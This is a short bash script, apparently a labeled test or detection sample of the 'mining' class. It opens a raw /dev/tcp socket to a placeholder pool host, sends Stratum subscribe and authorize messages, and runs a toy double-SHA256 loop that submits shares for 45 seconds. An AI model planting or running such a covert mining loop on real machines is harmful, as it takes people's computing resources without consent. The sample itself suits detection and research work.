# class: mining; possible: low medium; style: bash and sha256sum, one process a hash
exec 5<>/dev/tcp/pool.coin.test/3333
printf '%s\n' '{"id":1,"method":"mining.subscribe","params":[]}' '{"id":2,"method":"mining.authorize","params":["sh.1","x"]}' >&5
read -r -t 5 _ <&5
n=0
while ((SECONDS < 45)); do
  n=$((n + 1))
  h=$(printf 'blk%s' $n | sha256sum | sha256sum)
  if [[ $h == 00* ]]; then
    printf '{"id":4,"method":"mining.submit","params":["sh.1","j1","00000000","5e9a1b2c","%08x"]}\n' $n >&5
  fi
done
